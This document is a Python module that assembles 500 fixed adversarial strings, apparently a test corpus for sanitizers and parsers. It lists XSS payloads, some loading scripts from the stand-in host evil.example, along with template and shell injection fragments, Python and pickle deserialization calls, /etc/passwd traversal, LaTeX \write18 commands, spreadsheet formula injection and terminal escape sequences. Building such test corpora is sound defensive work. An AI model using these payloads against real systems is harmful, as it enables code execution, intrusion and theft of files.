"""Five hundred fixed strings that some program has interpreted as markup, code, a path, a formula or a command."""

# ruff: noqa: E501
from itertools import product

CALL = "alert(1)"

TAGS = [
    f"<script>{CALL}</script>", f"</script><script>{CALL}</script>", f"<ScRiPt>{CALL}</sCrIpT>", f"<script\x20type=module>{CALL}</script>",
    f"<script/x>{CALL}</script>", f"<script\n>{CALL}</script\n>", f"<<script>{CALL}//<</script>", f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    "<script src=//evil.example/x.js></script>", "<script src=data:text/javascript,alert(1)></script>",
    f"<img src=x onerror={CALL}>", f'<img src="x" onerror="{CALL}">', f"<img src=x onerror='{CALL}'>", f"<img/src=x/onerror={CALL}>",
    f"<img src=x:x onerror={CALL}//", f"<svg onload={CALL}>", f"<svg/onload={CALL}>", f"<svg><script>{CALL}</script></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>", f"<svg><a xlink:href=javascript:{CALL}><text x=20 y=20>x</text></a>",
    f"<svg><foreignObject><body onload={CALL}></foreignObject></svg>", f"<body onload={CALL}>", f"<iframe src=javascript:{CALL}>",
    f"<iframe srcdoc='<script>{CALL}</script>'></iframe>", f"<object data=javascript:{CALL}>", f"<embed src=javascript:{CALL}>",
    f"<a href=javascript:{CALL}>x</a>", f'<a href="java\tscript:{CALL}">x</a>', f"<a href=&#106;avascript:{CALL}>x</a>",
    f"<form action=javascript:{CALL}><input type=submit>", f"<input autofocus onfocus={CALL}>", f"<select autofocus onfocus={CALL}>",
    f"<textarea autofocus onfocus={CALL}>", f"<details open ontoggle={CALL}>", f"<video><source onerror={CALL}>", f"<audio src=x onerror={CALL}>",
    f"<marquee onstart={CALL}>", f"<math><mtext><table><mglyph><style><img src=x onerror={CALL}>", f"<math href=javascript:{CALL}>x</math>",
    f"<style>@import '//evil.example';</style><img src=x onerror={CALL}>", "<style>*{background:url(//evil.example)}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    f"<template><script>{CALL}</script></template>", f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>",
    f"<title><script>{CALL}</script></title>", f"</title><script>{CALL}</script>", f"</style><script>{CALL}</script>",
    f"</textarea><script>{CALL}</script>", f"--><script>{CALL}</script>", f"<!--><script>{CALL}</script>-->", f"]]><script>{CALL}</script>",
    f"<![CDATA[<script>{CALL}</script>]]>", f"<?xml version='1.0'?><script>{CALL}</script>", f"<!DOCTYPE x [<!ENTITY y '{CALL}'>]>&y;",
    f"<x onclick={CALL}>x</x>", f"<b onmouseover={CALL}>x</b>", f"<p style='behavior:url(#x)'>{CALL}</p>", "<plaintext>", "<xmp>", "<!--",
    f"<button popovertarget=x>x</button><x popover id=x onbeforetoggle={CALL}>", f"<isindex action=javascript:{CALL} type=image>",
]  # fmt: skip

ATTRIBUTES = [
    f'" onmouseover="{CALL}', f"' onmouseover='{CALL}", f'"><script>{CALL}</script>', f"'><script>{CALL}</script>", f'"/><svg onload={CALL}>',
    f"` onmouseover=`{CALL}", f'" autofocus onfocus="{CALL}" x="', f"x onerror={CALL}", f'" style="x:expression({CALL})"', f"javascript:{CALL}",
    f"JaVaScRiPt:{CALL}", f" javascript:{CALL}", f"java\nscript:{CALL}", f"java\0script:{CALL}", f"vbscript:{CALL}",
    f"data:text/html,<script>{CALL}</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;script&amp;gt;", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\x3cscript\\x3e", "＜script＞alert(1)＜/script＞", "‹script›alert(1)", "<\u200bscript>alert(1)</script>", "<\0script>alert(1)</script>",
]  # fmt: skip

SCRIPTS = [
    f"';{CALL};//", f'";{CALL};//', f"\\';{CALL};//", f"`+{CALL}+`", f"${{{CALL}}}", f"{{{{{CALL}}}}}", "{{7*7}}", "{{constructor.constructor('alert(1)')()}}",
    "${7*7}", "#{7*7}", "<%= 7*7 %>", "{% debug %}", "{0.__class__.__mro__}", "%s%s%s%n", "%(x)s", "{x!r}", "$(id)", "`id`", "; id", "| id", "&& id", "\nid\n",
    "__import__('os').system('id')", "eval('1')", "exec('x=1')", "open('/etc/passwd').read()", "().__class__.__bases__[0].__subclasses__()",
    "lambda: 0", "os.system('id')", "import os", "!!python/object/apply:os.system ['id']", "cos\nsystem\n(S'id'\ntR.", "toString", "__proto__",
    "constructor", "prototype", "hasOwnProperty", "null", "undefined", "NaN", "Infinity", "-Infinity", "true", "None", "0x10", "1e309", "-0",
]  # fmt: skip

MARKDOWN = [
    f"[x](javascript:{CALL})", f"[x](JaVaScRiPt:{CALL})", f"![x](javascript:{CALL})", f"[x](data:text/html,<script>{CALL}</script>)", f"[x]: javascript:{CALL}\n[x]",
    f"<javascript:{CALL}>", f"[x](<javascript:{CALL}>)", f"[x](  javascript:{CALL})", f"[x](java&Tab;script:{CALL})", f'[x](x "onerror={CALL}")', "![x](//evil.example/x.png)",
    "[x](//evil.example)", "**x** _y_ ~~z~~", "# x", "> x", "- x\n- y", "1. x", "| x | y |", "x | y | z", "|---|---|", "```\nx\n```", "``` x", "`x`", "``x`` `", "---", "===",
    "\\[x\\]", "\\", "\\\\", "[^1]: x", "[ ] x", ":smile:", "@x", "#1", "<!-- x -->", "&nbsp;", "http://evil.example", "mailto:x@evil.example", "x  \ny", "\tx",
]  # fmt: skip

LATEX = [
    r"\input{/etc/passwd}", r"\include{x}", r"\write18{id}", r"\immediate\write18{id}", r"\openin\x=/etc/passwd", r"\def\x{\x\x}\x", r"\let\x\y", r"\catcode`\%=12", r"\csname x\endcsname",
    r"\usepackage{x}", r"\documentclass{x}", r"\end{document}", r"\begin{document}", r"\end{tabular}", r"\end{verbatim}", r"\href{javascript:alert(1)}{x}", r"\url{javascript:alert(1)}",
    r"\htmlClass{x}{y}", r"\htmlData{x=y}{z}", r"\includegraphics{/etc/passwd}", r"\special{x}", r"\directlua{os.execute('id')}", r"\loop\iftrue\repeat", r"$x$", r"$$x$$", r"$", r"$$",
    r"\(x\)", r"\[x\]", r"\$", r"\%", r"%x", r"&x", r"#1", r"_x", r"^x", r"~", r"{", r"}", r"{}", r"}{", r"\rule{9999cm}{9999cm}", r"\kern9999pt", r"\\[9999cm]", r"^^5c", r"\char92",
    r"\newcommand{\x}{x}", r"\newwrite\x", r"\read16to\x", r"\expandafter\x", r"\scriptsize{x", r"\verb|x|", r"\text{", r"\frac{1}{", r"\left(", r"\color{red}", r"\pdfximage{x}", r"\lstinputlisting{x}",
]  # fmt: skip

CELLS = [
    "=1+1", "+1", "-1", "@SUM(A1)", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example","x")', "=IMPORTXML(\"//evil.example\",\"//x\")", "\t=1", "\r=1", "\n=1", '"', '""', "','", ";", "\t",
    "=DDE(\"cmd\";\"x\";\"y\")", "%0A=1", "＝1+1", "'=1", ' =1',
]  # fmt: skip

PATHS = [
    "../../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "C:\\x", "\\\\server\\x", "~/x", "./x", "x/../../y", "%2e%2e%2f", "file:///etc/passwd", "CON", "NUL.txt", ".", "..", "...",
    "-rf", "--help", "x" * 300, "x\0y", "x\ny", "a/b", "|id", "/dev/zero", "con.json", "aux", "x:y", "x*y", "x?y", "*",
]  # fmt: skip

UNICODE = [
    "\u202ex", "\u2066x\u2069", "\u200b", "\ufeff", "\u0000", "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x1b]8;;http://evil.example\x07x\x1b]8;;\x07", "\x07", "\x08\x08x", "\x7f", "\x9b31m", "\r\nx",
    "\ud800", "\udfff", "e\u0301" * 40, "Z\u0351\u036b\u0343\u036a", "\U0001f469\u200d\U0001f469", "ﷺ", "İ", "ß", "ﬀ", "１２３", "٣", "½", "²", "𝔸", "字", "العربية", "\u2028x", "\u2029x", "\x85x", "\x0bx", "\x0cx",
    "\ufffe", "\uffff", "\U000e0041", "a\u034fb",
]  # fmt: skip

NAMES = [
    'x"y',
    "x'y",
    "x`y",
    "x\\y",
    "x;y",
    "x&y",
    "x<y",
    "x>y",
    "x=y",
    "x%y",
    "x$y",
    "x{y}",
    "x[y]",
    "x(y)",
    " x",
    "x ",
    "",
    " ",
]

EVENTS = "onload onerror onclick onfocus onpointerover onanimationstart ontransitionend onscroll oncut onpaste onwheel ontoggle".split()
ELEMENTS = "img svg video audio body iframe object embed input button details marquee table td a p".split()


def _many():
    """Every element with every event, until there are enough."""
    for element, event in product(ELEMENTS, EVENTS):
        yield f"<{element} src=x {event}={CALL} tabindex=1 autofocus>"


FIRST = [*TAGS, *ATTRIBUTES, *SCRIPTS, *MARKDOWN, *LATEX, *CELLS, *PATHS, *UNICODE, *NAMES]
STRINGS = list(dict.fromkeys([*FIRST, *_many()]))[:500]
assert len(STRINGS) == 500
